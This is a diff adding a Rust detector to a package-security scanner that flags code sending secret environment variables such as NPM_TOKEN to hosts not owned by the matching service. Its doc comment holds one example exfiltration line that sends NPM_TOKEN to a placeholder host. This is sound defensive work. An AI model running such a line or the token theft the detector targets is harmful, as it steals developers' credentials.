@@ -1,0 +1,94 @@
+//! A secret of the environment is sent to a host that is not the service it is for.
+//!
+//! `GITHUB_TOKEN` belongs to GitHub's API. When a token's name says one service and the address says another, somebody collects tokens.
+//!
+//! **What to do:** see whom the host belongs to. **Limits:** the service is taken from the variable's name; a service under another name is told as low
+//! when only a function sends it. **Example:** `get('https://x.invalid/?t=' + process.env.NPM_TOKEN)`.
+
+use super::common::*;
+
+pub(super) const DETECTOR: Detector = Detector {
+    id: "behaviour/exfil-env-secret",
+    catalogue: "EXFIL-ENV-SECRET",
+    title: "sends a secret to a host that it is not for",
+    severity: High,
+    ecosystems: &[],
+    run,
+};
+
+fn run(package: &Package, findings: &mut Findings) {
+    let own = package.manifest.as_ref().and_then(|m| m.name.clone()).unwrap_or_default().to_ascii_lowercase();
+    for (code, from, to, _) in package.flows() {
+        if from.what != What::EnvRead
+            || !words::is_secret_variable(&from.detail)
+            || !matches!(to.what, What::NetSend | What::DnsQuery)
+        {
+            continue;
+        }
+        let Some(address) = foreign(&to.detail) else { continue };
+        let service = words::service_of(&from.detail);
+        let is_own = own.split(['/', '-', '_', '@']).any(|part| part.len() >= 4 && address.belongs_to(part));
+        if belongs(&address, &service) || is_own {
+            continue;
+        }
+        let words = words::classes(&to.detail);
+        let is_collector = words.any(&[Class::Messenger, Class::OutOfBand, Class::FileHost, Class::DeadDrop])
+            || address.is_bare()
+            || to.what == What::DnsQuery;
+        let grade = match (early(code, to), is_collector || names_known(&service)) {
+            (true, true) => (High, Sure),
+            (true, false) => (High, Likely),
+            (false, true) => (High, Likely),
+            (false, false) => (Low, Hint),
+        };
+        let variable = if from.detail.is_empty() { "a variable" } else { &from.detail };
+        findings.tell(
+            code,
+            to,
+            grade,
+            &format!("sends the secret `{variable}` to `{}`, which it is not for", address.host),
+        );
+    }
+}
+
+fn belongs(address: &Address, service: &str) -> bool {
+    let hosts: &[&str] = match service {
+        "aws" => &["amazonaws", "amazon"],
+        "google" | "gemini" | "firebase" => &["googleapis", "google"],
+        "azure" => &["azure", "microsoftonline", "windows"],
+        "npm" => &["npmjs", "npm"],
+        "claude" => &["anthropic"],
+        "x" | "twitter" => &["twitter", "x"],
+        "telegram" | "bot" => &["telegram"],
+        "database" | "db" | "postgres" | "redis" | "mongo" | "mongodb" => &["mongodb", "postgres", "redis"],
+        _ => &[],
+    };
+    address.belongs_to(service) || hosts.iter().any(|host| address.belongs_to(host))
+}
+
+/// Services whose hosts are known, so that another host is surely not theirs.
+fn names_known(service: &str) -> bool {
+    matches!(
+        service,
+        "npm"
+            | "github"
+            | "aws"
+            | "pypi"
+            | "gitlab"
+            | "azure"
+            | "google"
+            | "openai"
+            | "anthropic"
+            | "huggingface"
+            | "slack"
+            | "stripe"
+            | "docker"
+            | "cargo"
+            | "cloudflare"
+            | "vercel"
+            | "netlify"
+            | "heroku"
+            | "digitalocean"
+            | "ssh"
+    )
+}
